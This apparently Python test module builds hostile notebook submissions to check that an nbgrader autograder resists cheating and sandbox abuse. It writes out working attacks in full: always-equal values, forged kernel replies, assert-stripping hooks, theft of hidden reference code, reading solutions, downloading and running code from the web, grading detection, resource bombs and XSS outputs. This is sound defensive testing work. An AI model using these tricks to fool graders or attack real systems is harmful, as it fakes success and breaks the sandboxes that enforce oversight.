"""Hostile submissions for lecture 01, built from the released and the solution notebooks.

Each attack says how to build the submission (the answer cells' source, or a change to the
whole notebook, or raw bytes) and what must come out: the exact score it may earn (what it
earned honestly, usually 0), and optionally the reason the grader must record, the status
some cell must get, and files that must not appear on the grader's machine.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

LECTURE = "01-divergences"
SOLUTION = Path(__file__).resolve().parents[2] / "solutions" / LECTURE / f"{LECTURE}.ipynb"


def lecture_points() -> tuple[int, float]:
    """(graded cells, total points) of the lecture, read from its solution notebook."""
    cells = [c for c in json.loads(SOLUTION.read_text())["cells"]
             if c.get("metadata", {}).get("nbgrader", {}).get("grade")]
    return len(cells), float(sum(c["metadata"]["nbgrader"]["points"] for c in cells))


GRADED_CELLS, FULL = lecture_points()
ANSWERS = ["kl_divergence", "js_divergence", "histogram_distances", "cdf_distances", "fit_gaussian",
           "forward_kl_gaussian_fit", "gaussian_nll", "disjoint_support_divergences"]

# Every exercise's function, returning values that can fool in-kernel checks.
CHEAT_FUNCTIONS = r'''
import builtins as _b, math as _m
class _AE(float):
    """An always-equal float: every comparison holds, differences vanish."""
    def __new__(cls): return float.__new__(cls, 0.0)
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = float.__hash__
    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = lambda self, o: _AE()
    __abs__ = __neg__ = lambda self: _AE()
    __bool__ = lambda self: True
    def __getitem__(self, k): return _AE()
    def __iter__(self): return iter([_AE(), _AE()])
    def __len__(self): return 2
    def values(self): return [_AE(), _AE(), _AE()]
    def keys(self): return ["kl", "jsd", "emd"]
def kl_divergence(p, q): return _AE()
def js_divergence(p, q): return _AE()
def minkowski_distance(p, q, r): return _AE()
def histogram_intersection(p, q): return _AE()
def chi2_distance(p, q): return _AE()
def quadratic_form_distance(p, q, A): return _AE()
def cdf_distances(p, q): return {"ks": _AE(), "match": _AE()}
def fit_gaussian(p, x, direction): return (_AE(), _AE())
def forward_kl_gaussian_fit(p, x): return (_AE(), _AE())
def gaussian_nll(mu, sigma, samples): return _AE()
def disjoint_support_divergences(shift): return {"kl": _m.inf, "jsd": _AE(), "emd": _AE()}
'''

# Hide every error from nbgrader: no traceback shown, and the reply says "ok".
FORGE_REPLIES = r'''
_ip = get_ipython()
_ip.showtraceback = lambda *a, **k: None
def _forget_errors(result):
    result.error_in_exec = None
    result.error_before_exec = None
if not getattr(_ip, "_forging", False):
    _ip.events.register("post_run_cell", _forget_errors)
    _ip._forging = True
'''

WRONG_FUNCTIONS = r'''
def kl_divergence(p, q): return 0.5
def js_divergence(p, q): return 0.5
def minkowski_distance(p, q, r): return 0.5
def histogram_intersection(p, q): return 0.5
def chi2_distance(p, q): return 0.5
def quadratic_form_distance(p, q, A): return 0.5
def cdf_distances(p, q): return {"ks": 0.5, "match": 0.5}
def fit_gaussian(p, x, direction): return (0.5, 0.5)
def forward_kl_gaussian_fit(p, x): return (0.5, 0.5)
def gaussian_nll(mu, sigma, samples): return 0.5
def disjoint_support_divergences(shift): return {"kl": 0.5, "jsd": 0.5, "emd": 0.5}
'''


@dataclass
class Attack:
    name: str
    what: str
    answers: str | None = None                      # source put into every answer cell
    transform: Callable[[dict, dict], dict] | None = None   # (course nb, solution nb) -> nb
    raw: bytes | None = None                        # a file that is not a notebook
    file_name: str = f"{LECTURE}.ipynb"
    score: float = 0.0                              # exactly what it must earn
    reason: str | None = None                       # a failure reason the grader must record
    status: str | None = None                       # some cell must have this status
    sentinels: list[str] = field(default_factory=list)   # paths (under {root}) that must not appear
    defend: str = ""                                # how the grader defeats it (for the table)
    extra_files: dict[str, bytes] = field(default_factory=dict)   # written next to the notebook
    link_to: str | None = None   # the lecture folder is a symbolic link to this path (under the workspace)
    not_in_outputs: list[str] = field(default_factory=list)   # live markup that must not reach the feedback
                                                              # page or the autograded copy's outputs


def _answers(notebook: dict, source: str) -> dict:
    notebook = copy.deepcopy(notebook)
    for cell in notebook["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            cell["source"] = source
    return notebook


def _graded(cell) -> bool:
    return bool(cell.get("metadata", {}).get("nbgrader", {}).get("grade"))


def _edit_tests(course, solution):
    nb = copy.deepcopy(course)
    for cell in nb["cells"]:
        if _graded(cell):
            cell["source"] = "print('Visible checks passed.')"
    return nb


def _delete_tests(course, solution):
    nb = copy.deepcopy(course)
    nb["cells"] = [c for c in nb["cells"] if not _graded(c)]
    return nb


def _convert_tests(course, solution):
    nb = copy.deepcopy(course)
    for cell in nb["cells"]:
        if _graded(cell):
            cell["cell_type"] = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    return nb


def _strip_tests_keep_answers(course, solution):
    """The solution, with the test cells stripped of metadata and emptied: tests come back."""
    nb = copy.deepcopy(solution)
    for cell in nb["cells"]:
        if _graded(cell):
            cell["metadata"] = {}
            cell["source"] = "pass"
    return nb


def _points_kernelspec(course, solution):
    nb = _answers(course, WRONG_FUNCTIONS)
    for cell in nb["cells"]:
        if _graded(cell):
            cell["metadata"]["nbgrader"]["points"] = 100
            cell["source"] = "print('ok')"
    nb["metadata"]["kernelspec"] = {"name": "evil", "display_name": "evil", "language": "python"}
    return nb


def _answer_as_markdown(course, solution):
    """The solution with every answer cell converted to markdown: answers are not run."""
    nb = copy.deepcopy(solution)
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            cell["cell_type"] = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    return nb


def _with_surrogate(course, solution):
    """The solution with a lone surrogate in every answer cell's metadata (valid JSON)."""
    nb = copy.deepcopy(solution)
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            cell["metadata"]["note"] = "\ud800 \x1b[2J"
    return nb


def _duplicated_answers(course, solution):
    """An old wrong attempt above each final (correct) answer cell, both with the same grade_id."""
    nb = copy.deepcopy(solution)
    cells = []
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            old = copy.deepcopy(cell)
            old["source"] = "raise NotImplementedError()  # first attempt"
            cells.append(old)
        cells.append(cell)
    nb["cells"] = cells
    return nb


def _solution_with(code: str):
    """A transform: the solution, with ``code`` appended to the kl_divergence answer cell."""
    def transform(course, solution):
        nb = copy.deepcopy(solution)
        for cell in nb["cells"]:
            if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "kl_divergence":
                cell["source"] = "".join(cell["source"]) + "\n\n" + code
        return nb
    return transform


# kl_divergence logs a warning and shows a tqdm bar (stderr) now and then, as debug output would.
_LOGGING_KL = r'''
import logging as _logging
from tqdm import tqdm as _tqdm
_kl_divergence, _kl_calls = kl_divergence, [0]
def kl_divergence(p, q):
    _kl_calls[0] += 1
    if _kl_calls[0] % 500 == 1:
        _logging.warning('computing a KL divergence')
        for _ in _tqdm(range(2), file=__import__('sys').stderr): pass
    return _kl_divergence(p, q)
'''

# A multiprocessing lock is a POSIX semaphore in /dev/shm.
_SHM_LOCK = r'''
import multiprocessing as _mp
_lock = _mp.get_context('fork').Lock()
with _lock:
    pass
'''


_DICT_WITHOUT_VALUES = r'''
class _Keys(dict):
    """Right keys, no values: a comparison that zips keys with values checks nothing."""
    def values(self): return []
    def items(self): return []
def disjoint_support_divergences(shift):
    return _Keys(kl=0.0, jsd=0.0, emd=0.0)
'''


def _as_nbformat_3(course, solution):
    import nbformat

    notebook = nbformat.reads(json.dumps(solution), as_version=4)
    return json.loads(nbformat.writes(nbformat.convert(notebook, 3), version=3))


_SCRIPT_OUTPUTS = r'''
from IPython.display import HTML, Javascript, Markdown, SVG, display
_x = "gdl-" + "xss"   # assembled at run time: only an output can hold the whole payload
display(HTML(f"<script>alert('{_x}-1')</script><img src=x onerror=\"alert('{_x}-2')\">"))
display(Javascript(f"alert('{_x}-3')"))
display(Markdown(f"<img src=x onerror=alert('{_x}-4')>"))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("{_x}-5")</script></svg>'))
'''

# A pre_run_cell hook keeps every function a test cell defines (hidden tests included); each
# answer then delegates to a kept function whose name mentions it. Earns points only if a
# hidden test defines reference code in the kernel.
_COPY_REFERENCES = r'''
import ast as _ast
_stash = {}
def _keep_definitions(info):
    try:
        tree = _ast.parse(info.raw_cell or "")
    except SyntaxError:
        return
    for node in tree.body:
        if isinstance(node, (_ast.FunctionDef, _ast.ClassDef)):
            try:
                exec(compile(_ast.Module([node], []), "<kept>", "exec"), globals(), _stash)
            except Exception:
                pass
_ip = get_ipython()
if not getattr(_ip, "_keeping", False):
    _ip.events.register("pre_run_cell", _keep_definitions)
    _ip._keeping = True
_OWN = {"kl_divergence", "js_divergence", "minkowski_distance", "histogram_intersection", "chi2_distance",
        "quadratic_form_distance", "cdf_distances", "fit_gaussian", "forward_kl_gaussian_fit",
        "gaussian_nll", "disjoint_support_divergences"}
def _borrowed(*words):
    found = [(name, value) for name, value in list(_stash.items())
             if callable(value) and name not in _OWN and any(w in name.lower() for w in words)]
    found.sort(key=lambda item: "ref" not in item[0].lower())
    if not found:
        raise NotImplementedError("nothing to borrow")
    return found[0][1]
import numpy as _np
def _valid(p, q):   # the docstring's validation, written by the student; the values are borrowed
    p, q = _np.asarray(p, float), _np.asarray(q, float)
    if p.ndim != 1 or p.shape != q.shape or (p < 0).any() or (q < 0).any() or not _np.isfinite(p).all() \
            or not _np.isfinite(q).all() or abs(p.sum() - 1) > 1e-6 or abs(q.sum() - 1) > 1e-6:
        raise ValueError("bad histograms")
    return p, q
def kl_divergence(p, q): return _borrowed("kl")(*_valid(p, q))
def js_divergence(p, q): return _borrowed("js")(*_valid(p, q))
def minkowski_distance(p, q, r): return _borrowed("minkowski")(p, q, r)
def histogram_intersection(p, q): return _borrowed("intersection")(p, q)
def chi2_distance(p, q): return _borrowed("chi2", "chi")(p, q)
def quadratic_form_distance(p, q, A): return _borrowed("quadratic")(p, q, A)
def cdf_distances(p, q): return _borrowed("cdf", "ks")(p, q)
def fit_gaussian(p, x, direction):
    if direction not in ("forward", "reverse"):
        raise ValueError("direction")
    return tuple(float(v) for v in _borrowed("fit")(p, x, direction))
def forward_kl_gaussian_fit(p, x): return _borrowed("forward", "moment")(p, x)
def gaussian_nll(mu, sigma, samples): return _borrowed("nll")(mu, sigma, samples)
def disjoint_support_divergences(shift): return _borrowed("disjoint")(shift)
'''

# Before each probe runs, plant a FIFO where the probe will save the array the answer returns,
# and drain it from a thread so the probe's own write succeeds. The probe's result file then
# names a FIFO with no writer: a grader that opens it blocking would wait for ever.
_FIFO_PROBE_RESULT = r'''
import os as _os, re as _re, threading as _threading
import numpy as _np
def _plant_fifo(info):
    found = _re.search(r"'([^']+[.]json)', globals[(][)]", info.raw_cell or "")
    if not found:
        return
    fifo = found.group(1) + ".1.npy"
    try:
        _os.mkfifo(fifo)
    except OSError:
        return
    def _drain():
        with open(fifo, "rb") as reader:
            reader.read()
    _threading.Thread(target=_drain, daemon=True).start()
_ip = get_ipython()
if not getattr(_ip, "_planting", False):
    _ip.events.register("pre_run_cell", _plant_fifo)
    _ip._planting = True
def kl_divergence(p, q): return _np.zeros(2)
'''

_MEMFD_HOG = r'''
import os as _os
_hogs = []
for _ in range(100):   # 5 GB that no process's resident size shows, in files under the file-size limit
    _hogs.append(_os.memfd_create("hog"))
    _os.write(_hogs[-1], b"x" * 50_000_000)
'''

_DEEP_TREE = r'''
import os
_fd = os.open(".", os.O_RDONLY)
for _ in range(3000):
    os.mkdir("d", dir_fd=_fd)
    _child = os.open("d", os.O_RDONLY, dir_fd=_fd)
    os.close(_fd)
    _fd = _child
os.close(_fd)
'''


def _cgroups_available() -> bool:
    import sys

    sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "autograder"))
    import cgroups

    return cgroups.available()


_CGROUPS = _cgroups_available()


def attacks(root: str) -> list[Attack]:
    """``root`` is the grader's course folder (absolute), the target of file attacks."""
    return [
        Attack("solution", "the solution notebook, honestly", transform=lambda c, s: s, score=FULL,
               status="passed", defend="-"),
        Attack("untouched", "the released notebook, unchanged", transform=lambda c, s: c, score=0,
               defend="-"),
        Attack("patched_testing", "patch numpy.testing, math.isclose and abs() to always pass", answers=r'''
import builtins, math, numpy.testing
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
math.isclose = lambda *a, **k: True
builtins.abs = lambda x: 0.0
''' + WRONG_FUNCTIONS, defend="probe values compared outside the kernel"),
        Attack("always_equal", "return float subclasses whose comparisons always hold",
               answers=CHEAT_FUNCTIONS, defend="probe records float(value); compared outside"),
        Attack("input_transformer", "input transformer turns every test cell into `pass`", answers=r'''
_ip = get_ipython()
if not getattr(_ip, "_blanking", False):
    _ip.input_transformers_post.append(lambda lines: ["pass\n"] if any("assert" in l or "raise" in l for l in lines) else lines)
    _ip._blanking = True
''' + WRONG_FUNCTIONS, status="verification failed", defend="probe values compared outside the kernel"),
        Attack("ast_transformer", "AST transformer deletes assert and raise statements", answers=r'''
import ast
class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
_ip = get_ipython()
if not getattr(_ip, "_no_asserts", False):
    _ip.ast_transformers.append(_NoAsserts())
    _ip._no_asserts = True
''' + WRONG_FUNCTIONS, status="verification failed", defend="probe values compared outside the kernel"),
        Attack("showtraceback", "showtraceback replaced by a no-op", answers=r'''
get_ipython().showtraceback = lambda *a, **k: None
''' + WRONG_FUNCTIONS, defend="kernel's error reply; probe values"),
        Attack("set_custom_exc", "custom exception handler swallows every error", answers=r'''
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
''' + WRONG_FUNCTIONS, defend="kernel's error reply; probe values"),
        Attack("post_run_cell_forgery", "post_run_cell hook clears errors so replies say ok; no tracebacks",
               answers=FORGE_REPLIES + WRONG_FUNCTIONS, status="verification failed",
               defend="probe values compared outside the kernel"),
        Attack("stderr_redirected", "stderr and tracebacks sent to a buffer", answers=r'''
import sys, io
sys.stderr = io.StringIO()
get_ipython().showtraceback = lambda *a, **k: print("Visible checks passed.")
''' + WRONG_FUNCTIONS, defend="kernel's error reply; probe values"),
        Attack("rebind_assertion_error", "AssertionError rebound to a harmless class, asserts caught", answers=r'''
import builtins
class AssertionError(Warning): pass
builtins.AssertionError = AssertionError
''' + FORGE_REPLIES + WRONG_FUNCTIONS, status="verification failed", defend="probe values compared outside"),
        Attack("forged_cheat_kit", "always-equal values plus forged replies (passes every in-kernel check)",
               answers=CHEAT_FUNCTIONS + FORGE_REPLIES, status="verification failed",
               defend="probe values compared outside the kernel"),
        Attack("edited_tests", "test cells replaced by print('Visible checks passed.')", transform=_edit_tests,
               defend="test cells come from the release + gradebook"),
        Attack("deleted_tests", "every test cell deleted", transform=_delete_tests,
               defend="test cells come from the release + gradebook"),
        Attack("converted_tests", "test cells converted to markdown", transform=_convert_tests,
               defend="test cells come from the release + gradebook"),
        Attack("stripped_tests", "solution with test cells emptied and stripped of metadata",
               transform=_strip_tests_keep_answers, score=FULL,
               defend="test cells restored: honest answers keep their points"),
        Attack("answers_as_markdown", "solution with answer cells converted to markdown",
               transform=_answer_as_markdown, score=0, defend="answers copied only when the cell type matches"),
        Attack("points_and_kernelspec", "points set to 100, kernelspec changed, tests emptied",
               transform=_points_kernelspec, defend="points/kernelspec from the gradebook"),
        Attack("read_solutions", "read solutions/ and the gradebook, run the solution's cells", answers=r'''
import glob, json, os, sqlite3
_found = []
for _pattern in ["{root}/solutions/*/*.ipynb", "{root}/grading/*.db", "{root}/grading/**/*.ipynb",
                 "/work/main/solutions/*/*.ipynb", "/work/main/grading/*.db"]:
    _found += glob.glob(_pattern, recursive=True)
print("FOUND", _found)
for _path in _found:
    if _path.endswith(".ipynb"):
        for _cell in json.load(open(_path))["cells"]:
            if _cell["cell_type"] == "code" and "BEGIN SOLUTION" in "".join(_cell["source"]):
                exec("".join(_cell["source"]), globals())
'''.replace("{root}", root) + "\nif not _found:\n    raise NotImplementedError()\n",
               defend="solutions/ and grading/ are not in the sandbox"),
        Attack("write_outside", "write into autograder/, grading/, the home and /tmp of the grader", answers=r'''
import os
for _path in ["{root}/autograder/checks/pwned.py", "{root}/grading/pwned", "{root}/pwned",
              os.path.expanduser("~/pwned"), "/tmp/gdl-pwned", "/usr/pwned", "/root/pwned"]:
    try:
        with open(_path, "w") as _f:
            _f.write("pwned")
    except OSError as _e:
        print("blocked", _path, type(_e).__name__)
'''.replace("{root}", root) + WRONG_FUNCTIONS,
               sentinels=["autograder/checks/pwned.py", "grading/pwned", "pwned", "/tmp/gdl-pwned", "/root/pwned"],
               defend="read-only binds; only the scratch folder and a private /tmp are writable"),
        Attack("network", "download answers from the internet", answers=r'''
import socket, urllib.request
try:
    exec(urllib.request.urlopen("http://example.com/answers.py", timeout=3).read())
except Exception as _e:
    print("no network:", type(_e).__name__)
try:
    socket.create_connection(("127.0.0.1", 22), timeout=2)
    print("LOCALHOST REACHABLE")
except OSError:
    pass
''' + WRONG_FUNCTIONS, defend="empty network namespace"),
        Attack("infinite_loop", "an answer that never returns", answers="while True:\n    pass\n",
               reason="cell timeout", defend="per-cell timeout; kernel killed"),
        Attack("sigint_ignoring_loop", "ignore SIGINT, then loop forever", answers=r'''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
''', reason="cell timeout", defend="per-cell timeout; kernel killed with SIGKILL"),
        Attack("os_exit", "os._exit(0) during grading", answers=CHEAT_FUNCTIONS + "\nimport os\nos._exit(0)\n",
               reason="kernel died", defend="dead kernel: cells not run score 0"),
        Attack("system_exit", "exit() the kernel after defining always-equal answers",
               answers=CHEAT_FUNCTIONS + "\nexit()\n", defend="dead kernel or probe failure: 0"),
        Attack("raise_system_exit", "raise SystemExit in every answer", answers=CHEAT_FUNCTIONS + "\nraise SystemExit(0)\n",
               defend="error replies; probe values"),
        Attack("huge_output", "print gigabytes", answers="import sys\nfor _ in range(2000):\n    sys.stdout.write('x' * 1_000_000)\n    sys.stdout.flush()\n",
               reason="output limit", defend="output cap; kernel stopped"),
        Attack("memory_bomb", "allocate memory until something breaks", answers=r'''
_hog = []
while True:
    _hog.append(b"x" * 50_000_000)
''', reason="memory limit", defend="address-space limit (prlimit)"),
        Attack("fork_bomb", "fork forever", answers=r'''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
''', defend="pids limit of its cgroup (else prlimit) + watchdog"),
        Attack("disk_filler", "fill the disk with files", answers=r'''
import os
_i = 0
while True:
    with open(f"filler-{_i}", "wb") as _f:
        _f.write(b"0" * 50_000_000)
    _i += 1
''', reason="disk quota", defend="file-size limit + disk quota on the scratch folder"),
        Attack("malformed_json", "a file that is not JSON", raw=b'{"cells": [ this is not json',
               reason="malformed notebook", defend="reported per student"),
        Attack("wrong_name", "the released notebook saved as homework.ipynb", transform=lambda c, s: c,
               file_name="homework.ipynb", defend="graded under the expected name, reported"),
        Attack("detect_grading", "behave well in JupyterLab, cheat when graded", answers=r'''
import os, socket
def _graded():
    try:
        socket.create_connection(("1.1.1.1", 53), timeout=1).close()
        networked = True
    except OSError:
        networked = False
    return os.environ.get("NBGRADER_EXECUTION") == "autograde" or not networked or os.getuid() > 60000
if _graded():
''' + "\n".join("    " + line for line in (CHEAT_FUNCTIONS + FORGE_REPLIES).splitlines()) + "\nelse:\n    raise NotImplementedError()\n",
               status="verification failed", defend="detection gains nothing: values are checked outside the kernel"),
        Attack("surrogate_metadata", "the solution with a lone surrogate and escape codes in cell metadata",
               transform=_with_surrogate, score=FULL, defend="every write guarded and escaped; honest work kept"),
        Attack("absurd_timestamp", "the solution with a timestamp.txt far outside the representable range",
               transform=lambda c, s: s, score=FULL, extra_files={"timestamp.txt": b"9999-12-31T23:59:59-14:00"},
               defend="timestamps outside 1970-2200 ignored"),
        Attack("duplicate_answers", "an old wrong attempt above each final answer (same grade_id)",
               transform=_duplicated_answers, score=FULL, defend="the last copy is graded, the duplicate noted"),
        Attack("logging_answers", "the solution, its kl_divergence logging a warning and a tqdm bar to stderr",
               transform=_solution_with(_LOGGING_KL), score=FULL, defend="stderr shown in feedback, not counted"),
        Attack("nbformat_3", "the solution saved in nbformat 3", transform=_as_nbformat_3, score=FULL,
               defend="upgraded to nbformat 4"),
        Attack("script_outputs", "HTML, JavaScript, markdown and SVG outputs that run script in a browser",
               answers=_SCRIPT_OUTPUTS + WRONG_FUNCTIONS,
               not_in_outputs=["<script>alert('gdl-xss-1')", "onerror=\"alert('gdl-xss-2')", "alert('gdl-xss-3')",
                               "onerror=alert('gdl-xss-4')", '<script>alert("gdl-xss-5")'],
               defend="outputs kept as text or images only; feedback HTML sanitized"),
        Attack("comm_flood", "widget comm messages of a megabyte each, never shown as outputs", answers=r'''
from ipykernel.comm import Comm
_comm = Comm(target_name="gdl-flood")
for _ in range(100):
    _comm.send({"blob": "x" * 1_000_000})
''' + WRONG_FUNCTIONS, reason="output limit", defend="every kernel message counts against the output cap"),
        Attack("copy_references", "a pre_run_cell hook keeps the functions hidden tests define; answers call them",
               answers=_COPY_REFERENCES, defend="hidden tests define no reference code: literal values and properties"),
        Attack("non_utf8_name", "the solution under a file name that is not valid UTF-8",
               transform=lambda c, s: s, file_name="\udcff\udcfe.ipynb", score=FULL,
               defend="graded under the expected name; the name is escaped wherever it is written"),
        Attack("dict_without_values", "a dict subclass whose values() and items() are empty",
               answers=WRONG_FUNCTIONS + _DICT_WITHOUT_VALUES,
               defend="dicts compared key by key, one value per key"),
        Attack("uses_dev_shm", "the solution, taking a multiprocessing lock (needs /dev/shm)",
               transform=_solution_with(_SHM_LOCK), score=FULL, defend="a private, size-limited /dev/shm"),
        Attack("link_to_solutions", "the lecture folder is a symbolic link to solutions/",
               link_to="solutions/01-divergences", reason="refused",
               defend="links are never followed: a row that says so"),
        Attack("link_to_classmate", "the lecture folder is a symbolic link to another student's folder",
               link_to="submitted/solution/01-divergences", reason="refused",
               defend="links are never followed: a row that says so"),
        Attack("fifo_probe_result", "the probe's array file replaced by a FIFO with no writer",
               answers=WRONG_FUNCTIONS + _FIFO_PROBE_RESULT,
               defend="only regular files are read, never blocking: the batch goes on"),
        Attack("memfd_hog", "5 GB in an anonymous memory file, under a 4 GB limit",
               answers=_MEMFD_HOG + WRONG_FUNCTIONS, reason="memory limit" if _CGROUPS else None,
               defend="the sandbox's cgroup counts memory no process owns"),
        Attack("deep_tree", "a folder tree 3000 levels deep in the scratch folder",
               answers=_DEEP_TREE + WRONG_FUNCTIONS, reason="disk quota",
               defend="iterative, descriptor-relative walk; depth limit; rm -rf clean-up"),
    ]


def selected(suite: list[Attack]) -> list[Attack]:
    """The attacks named in GDL_ATTACKS (comma-separated), or all: for debugging one attack."""
    import os

    wanted = [name for name in os.environ.get("GDL_ATTACKS", "").split(",") if name]
    return [a for a in suite if a.name in wanted] if wanted else suite


def build(attack: Attack, course: dict, solution: dict) -> bytes:
    if attack.raw is not None:
        return attack.raw
    if attack.transform is not None:
        notebook = attack.transform(course, solution)
    else:
        notebook = _answers(course, attack.answers)
    return json.dumps(notebook, indent=1).encode()


def write_suite(workspace: Path) -> list[Attack]:
    """Every attack as ``workspace/submitted/<attack>/<lecture>/``, built from the workspace's
    released notebook and the solution; returns the suite."""
    course = json.loads((workspace / "course" / LECTURE / f"{LECTURE}.ipynb").read_text())
    solution = json.loads(SOLUTION.read_text())
    suite = selected(attacks(str(workspace)))
    for attack in suite:
        folder = workspace / "submitted" / attack.name / LECTURE
        if attack.link_to:
            folder.parent.mkdir(parents=True)
            folder.symlink_to(workspace / attack.link_to)
            continue
        folder.mkdir(parents=True)
        (folder / attack.file_name).write_bytes(build(attack, course, solution))
        for name, data in attack.extra_files.items():
            (folder / name).write_bytes(data)
    return suite
